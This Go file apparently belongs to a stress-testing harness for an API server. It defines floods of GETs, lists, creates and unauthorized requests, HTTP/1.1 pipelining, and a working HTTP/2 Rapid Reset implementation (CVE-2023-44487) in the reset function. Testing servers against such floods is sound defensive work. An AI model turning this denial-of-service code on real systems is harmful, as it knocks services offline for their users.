package attack

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// floods are many requests.
func floods() []Attack {
	get := Request{Method: "GET", Path: configMaps + "/c0"}
	list := Request{Method: "GET", Path: configMaps}
	small := func(client, turn int) Request {
		body := fmt.Appendf(nil, `{"metadata":{"name":"n-%d-%d"}}`, client, turn)
		return Request{Method: "POST", Path: configMaps, Body: body}
	}
	one := func(r Request) func() Request { return func() Request { return r } }
	return []Attack{
		{
			Group: "floods", Name: "gets", Answers: 200,
			Does:  "Gets an object on 200 connections.",
			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 1, 100) },
			Run:   again(200, attacker, one(get)),
		},
		{
			Group: "floods", Name: "lists", Answers: 100, Does: "Lists 500 objects of 10 KB on 200 connections.",
			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 500, 10<<10) },
			Run:   again(200, attacker, one(list)),
		},
		{
			Group: "floods", Name: "creates", Answers: 200,
			Does: "Creates small objects on 200 connections.",
			Run: func(ctx context.Context, a *Attacker) error {
				a.flood(ctx, attacker, 200, small)
				return nil
			},
		},
		{
			Group: "floods", Name: "forbidden", Answers: 200,
			Does: "Does what it has no right to on 200 connections.", Forbidden: true,
			Run: again(200, stranger, one(list)),
		},
		{
			Group: "floods", Name: "pipelining",
			Does:  "Sends requests on 50 HTTP/1.1 connections without reading a response.",
			Setup: func(ctx context.Context, t *Target) error { return t.fill(ctx, 1, 100<<10) },
			Run: func(ctx context.Context, a *Attacker) error {
				one := head("GET", configMaps+"/c0", attacker) + "\r\n"
				return a.each(ctx, 50, "http/1.1", func(c net.Conn) error {
					for batch := strings.Repeat(one, 1000); ; {
						if _, err := io.WriteString(c, batch); err != nil {
							return err
						}
					}
				})
			},
		},
		{
			Group: "floods", Name: "rapid-reset", Flags: []string{"--profiling"},
			Does: "Opens and resets streams on 8 HTTP/2 connections as fast as it can.",
			Run: func(ctx context.Context, a *Attacker) error {
				return a.each(ctx, 8, "h2", func(c net.Conn) error { return reset(c) })
			},
		},
	}
}

// each has n connections do something, over and over, until ctx ends.
func (a *Attacker) each(ctx context.Context, n int, protocol string, do func(net.Conn) error) error {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for ctx.Err() == nil {
				c, err := a.dial(ctx, protocol)
				if err == nil {
					stop := context.AfterFunc(ctx, func() { _ = c.Close() })
					err = do(c)
					stop()
					_ = c.Close() // once more, perhaps
				}
				a.count(ctx, 0, err)
				if !pause(ctx, 20*time.Millisecond) {
					return
				}
			}
		})
	}
	all.Wait()
	return nil
}

// reset opens streams and resets them at once (CVE-2023-44487), until the server hangs up.
func reset(c net.Conn) error {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return err
	}
	w := bufio.NewWriter(c)
	f := http2.NewFramer(w, nil)
	if err := f.WriteSettings(); err != nil {
		return err
	}
	var fields strings.Builder
	enc := hpack.NewEncoder(&fields)
	for id := uint32(1); id < 1<<31; id += 2 {
		fields.Reset()
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"},
			{":path", configMaps}, {"authorization", "Bearer " + token(attacker)}} {
			if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
				return err
			}
		}
		open := http2.HeadersFrameParam{StreamID: id, EndStream: true, EndHeaders: true}
		open.BlockFragment = []byte(fields.String())
		if err := f.WriteHeaders(open); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		if id%100 == 1 {
			if err := w.Flush(); err != nil {
				return err
			}
		}
	}
	return nil
}
